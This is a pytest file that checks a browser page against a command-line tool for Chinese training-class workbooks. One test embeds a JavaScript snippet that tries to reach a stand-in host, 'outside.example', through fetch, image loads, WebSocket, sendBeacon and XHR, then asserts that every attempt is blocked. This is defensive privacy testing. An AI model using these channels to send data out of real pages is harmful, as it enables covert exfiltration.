"""What a person does on the page in either browser, against what the command line makes of the same input."""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from inspect import signature
from pathlib import Path
from typing import Any

import pytest

from macros.certificates.ledger_reading import listed, verify
from tests.command_line import DAY, CommandLine
from tests.office_sources import answers, attendance, old_roster
from tests.page.comparing import cells_of, command_document, words_of
from tests.page.person import Person
from tests.sample import sample_class
from udfs.records.class_file import ClassFile


def the_flagged_workbook_is_the_commands(person: Person, gaoyan: CommandLine, faulty: Path) -> None:
    person.drops(faulty)
    person.presses("下载标注问题的工作簿")
    theirs = person.taken_home(faulty.name)
    command_document(gaoyan, "check", faulty.name, "--write")
    assert cells_of(theirs) == cells_of(faulty)
    assert len(cells_of(theirs)["核验"]) > 50


def tidying_is_shown_before_it_is_taken_and_can_be_undone(person: Person, gaoyan: CommandLine) -> None:
    c = sample_class()
    odd = c.people[0].changed(name=f" {c.people[0].name}　", phone="１３８-１２３４-５６７８")
    book = gaoyan.book(c.changed(people=(odd, *c.people[1:])))
    untidied = book.read_bytes()
    person.drops(book)
    before = person.report
    person.presses("规范化")
    assert "→" in person.text or "改为" in person.text
    assert person.report == before  # nothing has been taken yet
    person.presses("采用这些改动")
    person.presses("下载工作簿")
    theirs = person.taken_home(book.name)
    command_document(gaoyan, "tidy", book.name)
    assert cells_of(theirs) == cells_of(book)
    assert person.report == command_document(gaoyan, "check", book.name)
    person.presses("撤销")
    assert person.report == before
    person.presses("下载工作簿")
    assert person.taken_home(book.name).read_bytes() == untidied


def totals(person: Person, gaoyan: CommandLine) -> None:
    c = sample_class()
    book = gaoyan.book(c.changed(accounts=c.accounts.changed(lodging=1)))
    person.drops(book)
    person.presses("汇总决算")
    person.presses("填入附件3")
    person.presses("下载工作簿")
    theirs = person.taken_home(book.name)
    command_document(gaoyan, "total", book.name)
    assert cells_of(theirs) == cells_of(book)


def a_fresh_workbook_and_a_roster_into_it(person: Person, gaoyan: CommandLine, tmp_path: Path) -> None:
    person.goes("new")
    person.browser.run("byId('new-level').value = '市级'; byId('new-level').onchange(); byId('new-plan').value = '10'")
    person.presses("新建并下载")
    (name,) = [path.name for path in person.browser.downloads.glob("*.xlsx") if not path.name[0].isdigit()]
    theirs = person.taken_home(name)
    assert gaoyan("new", name, "--level", "市级", "--plan", "10", "--year", "2025").code == 0
    assert cells_of(theirs) == cells_of(tmp_path / name)
    source = old_roster(tmp_path / "名册.xls")
    person.presses("导入名册")
    person.chooses([source])
    person.presses("写入附件4")
    person.presses("下载工作簿")
    theirs = person.taken_home(name)
    command_document(gaoyan, "import", name, source.name)
    assert cells_of(theirs)["附件4"] == cells_of(tmp_path / name)["附件4"]
    assert len(cells_of(theirs)["附件4"]) > 50


def attendance_and_answers(person: Person, gaoyan: CommandLine, tmp_path: Path) -> None:
    c = sample_class()
    book = gaoyan.book(c.changed(absences=()))
    signs, forms = attendance(tmp_path / "考勤表.xlsx", c), answers(tmp_path / "答卷.xlsx")
    person.drops(book)
    person.presses("登记考勤")
    person.chooses([signs])
    person.presses("写入考勤")
    person.presses("统计测评")
    person.chooses([forms])
    person.presses("填入附件6")
    person.presses("下载工作簿")
    theirs = person.taken_home(book.name)
    command_document(gaoyan, "attendance", book.name, signs.name)
    command_document(gaoyan, "survey", book.name, forms.name)
    assert cells_of(theirs) == cells_of(book)


def a_masked_copy(person: Person, gaoyan: CommandLine, tmp_path: Path) -> None:
    book = gaoyan.book(sample_class())
    person.drops(book)
    person.presses("脱敏副本")
    theirs = person.taken_home("公示_班.xlsx")
    command_document(gaoyan, "mask", book.name, "公示.xlsx")
    assert cells_of(theirs) == cells_of(tmp_path / "公示.xlsx")


def no_number_is_invented(person: Person, gaoyan: CommandLine) -> None:
    c = sample_class()
    none = c.changed(results=tuple(one.changed(certificate=None) for one in c.results), people=tuple(
        one.changed(certificate=None) for one in c.people))  # fmt: skip
    person.drops(gaoyan.book(none))
    person.presses("证书编号")
    assert "不发放编号" in person.text
    assert person.browser.run("held.versions.length") == 1


def several_classes_are_reviewed(person: Person, gaoyan: CommandLine, tmp_path: Path, faulty: Path) -> None:
    folder = tmp_path / "收到的材料"
    folder.mkdir()
    gaoyan.book(sample_class(), "收到的材料/甲.xlsx")
    faulty.rename(folder / "乙.xlsx")
    (folder / "丙.xlsx").write_bytes(b"no workbook")
    for path in folder.iterdir():  # messages give a file's time, and the page is in another zone: noon there, so the day is one
        os.utime(path, (1_699_934_400, 1_699_934_400))
    person.goes("review")
    person.browser.choose("#review-files", sorted(folder.iterdir()))
    person.done()
    person.browser.run("byId('review-run').click()")  # the tab above has the same words
    person.done()
    assert person.error == ""
    person.presses("下载 汇总.xlsx")
    theirs = person.taken_home("汇总.xlsx")
    command_document(gaoyan, "review", folder.name, "--out", "汇总.xlsx")
    assert cells_of(theirs) == cells_of(tmp_path / "汇总.xlsx")
    person.presses("清空")


def numbers_are_shown_only_when_asked_for(person: Person, gaoyan: CommandLine) -> None:
    c = sample_class()
    wrong = c.people[0].changed(phone="13812345")
    book = gaoyan.book(c.changed(people=(wrong, *c.people[1:])))
    person.drops(book)
    person.browser.run("byId('reveal').click()")
    person.done()
    revealed = json.loads(gaoyan("check", book.name, "--json", "--reveal", "--today", DAY).out)
    assert person.report == revealed
    person.browser.run("byId('reveal').click()")
    person.done()
    assert person.report == command_document(gaoyan, "check", book.name)


def a_cancelled_task_changes_nothing_and_the_page_goes_on(person: Person, gaoyan: CommandLine) -> None:
    book = gaoyan.book(sample_class())
    person.drops(book)
    person.browser.run("started('tidy'); new Promise((resolve) => setTimeout(() => { byId('cancel').click(); resolve(); }, 30))")
    person.done()
    assert "取消" in person.status
    person.presses("核验")
    assert person.report == command_document(gaoyan, "check", book.name)


TRIED = """
    const tried = [], there = "//outside.example/";
    for (const way of [
      () => fetch(`http:${there}`).then(() => tried.push("fetch"), () => {}),
      () => new Promise((done) => { const one = new Image(); one.onload = one.onerror = done; one.src = `http:${there}a.png`; }),
      () => { new WebSocket(`ws:${there}`); },
      () => { navigator.sendBeacon(`http:${there}`, "x"); },
      () => { const ask = new XMLHttpRequest(); ask.open("GET", `http:${there}`); ask.send(); },
      () => { document.body.innerHTML += "<b>x</b>"; tried.push("markup"); },
      () => { eval("1"); tried.push("eval"); },
    ]) { try { await way(); } catch {} }
    await new Promise((done) => setTimeout(done, 500));
    return tried;
"""
"""Every way out that a page has; gives those that worked."""


def nothing_is_stored_and_nothing_gets_out(person: Person) -> None:
    kept = person.browser.run(
        "(async () => [(() => { try { return localStorage.length + sessionStorage.length } catch { return 0 } })(),"
        " document.cookie, await indexedDB.databases().then((all) => all.length, () => 0)])()"
    )
    assert kept == [0, "", 0]
    made = person.browser.run(f"(async () => {{ {TRIED} }})()")
    assert made == []
    assert person.browser.listener.heard == []
    # What was asked for in vain.
    person.browser.requests = [one for one in person.browser.requests if "outside.example" not in one]


def the_package_is_the_commands(person: Person, gaoyan: CommandLine, tmp_path: Path) -> None:
    """The same files, the same words in every PDF, the same cells in every workbook."""
    book = gaoyan.book(sample_class())
    person.drops(book)
    person.presses("校验并导出盖章稿")
    name = f"{sample_class().project.topic}_盖章稿_{DAY}"
    with zipfile.ZipFile(person.taken_home(f"{name}.zip")) as archive:
        archive.extractall(tmp_path / "theirs")
    command_document(gaoyan, "export", book.name, "--out", "ours")
    theirs, ours = tmp_path / "theirs" / name, tmp_path / "ours" / name
    assert sorted(path.name for path in theirs.iterdir()) == sorted(path.name for path in ours.iterdir())
    for path in sorted(ours.iterdir()):
        if path.suffix == ".pdf":
            assert words_of(theirs / path.name) == words_of(path)
        if path.suffix == ".xlsx":
            assert cells_of(theirs / path.name) == cells_of(path)


def unnumbered(**which: Any) -> ClassFile:
    c = sample_class(**which)
    return c.changed(
        results=tuple(one.changed(certificate=None) for one in c.results),
        people=tuple(one.changed(certificate=None) for one in c.people),
    )


def story(ledger: Path) -> list[tuple[str, str, str, str]]:
    """Every number with whose it is and what became of it; without the moments."""
    return [(one.number, one.class_key, one.name, one.state) for one in listed(str(ledger))]


def opens(person: Person, ledger: Path) -> None:
    person.browser.choose("#task-ledger", [ledger])
    person.done()


def numbers_come_from_the_ledger_and_it_goes_back(person: Person, gaoyan: CommandLine, kept: Path) -> None:
    book = gaoyan.book(unnumbered())
    untouched = kept.read_bytes()
    person.drops(book)
    person.presses("证书编号")
    assert "不发放编号" in person.text
    opens(person, kept)
    assert "共 3 个编号" in person.text
    assert "只能一个人用" in person.text
    assert person.browser.run("held.versions.length") == 1  # nothing has been taken yet
    person.presses("填入编号，下载台账")
    ledger = person.taken_home(kept.name)
    assert "放回原处" in person.text
    person.presses("下载工作簿")
    theirs = person.taken_home(book.name)
    document = command_document(gaoyan, "number", book.name)
    assert len(document["given"]) > 40
    assert cells_of(theirs) == cells_of(book)
    assert story(ledger) == story(gaoyan.ledger)
    assert verify(str(ledger)).problems == ()
    assert len(story(ledger)) == 3 + len(document["given"])
    assert kept.read_bytes() == untouched
    # With the ledger open the rules that ask it are judged as the command judges them.
    assert person.report == command_document(gaoyan, "check", book.name)
    person.presses("已放回原处")
    assert not person.browser.run("!!ledger.data")


TASKS = (
    the_flagged_workbook_is_the_commands, tidying_is_shown_before_it_is_taken_and_can_be_undone, totals,
    a_fresh_workbook_and_a_roster_into_it, attendance_and_answers, a_masked_copy, no_number_is_invented,
    several_classes_are_reviewed, numbers_are_shown_only_when_asked_for, a_cancelled_task_changes_nothing_and_the_page_goes_on,
    the_package_is_the_commands, numbers_come_from_the_ledger_and_it_goes_back,
)  # fmt: skip


def done(task: Callable[..., None], person: Person, request: pytest.FixtureRequest) -> None:
    """Do a task, with the fixtures that it names."""
    named = {name: request.getfixturevalue(name) for name in signature(task).parameters if name != "person"}
    task(person=person, **named)
